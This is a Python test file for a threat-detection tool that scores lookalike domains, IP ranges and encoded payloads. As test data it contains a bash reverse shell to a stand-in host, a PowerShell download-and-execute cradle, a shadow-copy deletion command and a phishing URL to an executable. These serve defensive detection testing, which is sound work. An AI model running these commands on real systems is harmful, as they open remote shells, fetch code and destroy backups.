"""The analyzers on their own: URL/domain signals, IP ranges, payload decoding and rules."""

from __future__ import annotations

import base64
import gzip

from rampart_threat.analysis.detect import detect
from rampart_threat.analysis.domain import Mode
from rampart_threat.analysis.engine import EngineConfig, run
from rampart_threat.analysis.ips import analyze_ip
from rampart_threat.analysis.lookalike import permutations


def signals(raw: str, mode: Mode = Mode.QUICK, config: EngineConfig | None = None) -> dict[str, int]:
    result = run(detect(raw, None), mode, config or EngineConfig())
    return {reason.signal: reason.weight for reason in result.findings.reasons}


def test_a_brand_look_alike_with_a_digit_for_a_letter_is_flagged() -> None:
    assert "brand_lookalike" in signals("paypa1.com")


def test_a_mixed_script_homograph_of_a_brand_is_flagged() -> None:
    found = signals("xn--pple-43d.com")  # Cyrillic a (U+0430) + "pple"
    assert {"punycode", "mixed_script", "brand_lookalike"} <= set(found)


def test_the_brands_own_domain_is_not_its_look_alike() -> None:
    assert signals("https://www.paypal.com/signin") == {"credential_keywords": 10}


def test_operator_brands_are_checked_too() -> None:
    config = EngineConfig(brands="rampartbank:rampartbank.example")
    assert "brand_lookalike" in signals("rampartbnak.com", config=config)
    assert "brand_lookalike" not in signals("rampartbnak.com")


def test_userinfo_trick_ip_host_port_and_executable_are_each_a_reason() -> None:
    found = signals("http://paypal.com@198.51.100.4:8081/bins/a.exe")
    assert {"userinfo_at", "ip_literal_host", "non_standard_port", "executable_download"} <= set(found)


def test_shortener_free_hosting_suspicious_tld_and_subdomains() -> None:
    assert "shortener" in signals("https://bit.ly/3abc")
    assert "free_hosting" in signals("https://login-update.web.app/")
    assert "suspicious_tld" in signals("shop-deals.xyz")
    assert "excessive_subdomains" in signals("https://a.b.c.d.e.example.com/")


def test_a_dga_like_name_is_flagged_and_a_dictionary_name_is_not() -> None:
    assert "dga_like" in signals("xkqzvbtrwplmnq3z.com")
    assert "dga_like" not in signals("wikipedia.org")


def test_script_and_data_schemes_are_flagged() -> None:
    assert signals("javascript:alert(1)")["script_scheme"] == 60
    assert "data_scheme" in signals("data:text/html;base64,PHNjcmlwdD4=")


def test_special_ranges_are_benign_evidence_and_public_addresses_are_not() -> None:
    private = analyze_ip("10.0.0.1", None, None)
    assert private.benign_evidence
    assert "RFC 1918" in private.reasons[0].evidence
    assert "RFC 5737" in analyze_ip("203.0.113.9", None, None).reasons[0].evidence
    assert not analyze_ip("8.8.8.8", None, None).benign_evidence


class FakeGeo:
    def __init__(self, record: dict[str, object]) -> None:
        self.record = record

    def get(self, address: str) -> object:
        return self.record


def test_asn_and_country_come_from_the_operators_databases() -> None:
    asn = FakeGeo({"autonomous_system_number": 64500, "autonomous_system_organization": "Example Net"})
    city = FakeGeo({"country": {"iso_code": "NL"}})
    evidence = [r.evidence for r in analyze_ip("8.8.4.4", asn, city).reasons]
    assert "AS64500 Example Net" in evidence
    assert "located in NL" in evidence


def test_permutations_cover_omission_transposition_and_lookalike_characters() -> None:
    near = permutations("paypal")
    assert {"paypl", "papyal", "paypa1", "paypai"} <= near
    assert "paypal" not in near


def test_a_gzip_inside_base64_is_decoded_and_the_inner_reverse_shell_matched() -> None:
    inner = gzip.compress(b"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", mtime=0)
    result = run(detect(base64.b64encode(inner).decode(), None), Mode.QUICK, EngineConfig())
    reasons = {r.signal: r for r in result.findings.reasons}
    assert "base64 > gzip" in reasons["yara:reverse_shell"].evidence
    assert "T1059.004" in reasons["yara:reverse_shell"].attack
    assert {(e.type, e.value, e.defanged) for e in result.extracted} >= {
        ("ipv4", "192.0.2.9", "192[.]0[.]2[.]9")
    }


def test_powershell_encoded_command_is_decoded_and_its_cradle_matched() -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.3/a')"
    payload = "powershell -enc " + base64.b64encode(command.encode("utf-16-le")).decode()
    found = signals(payload)
    assert {"powershell_encoded_command", "yara:download_cradle"} <= set(found)


def test_deep_mode_runs_rules_quick_mode_does_not() -> None:
    payload = "vssadmin delete shadows /all /quiet"
    assert "yara:defense_evasion" in signals(payload, Mode.DEEP)
    assert "yara:defense_evasion" not in signals(payload, Mode.QUICK)


def test_deep_mode_scores_urls_found_in_a_payload() -> None:
    found = signals("see http://paypal.com@198.51.100.4:8081/bins/a.exe now", Mode.DEEP)
    assert found["embedded_malicious_url"] == 40


def test_ordinary_text_and_code_raise_no_signal() -> None:
    assert signals("def add(a, b):\n    return a + b\n") == {}
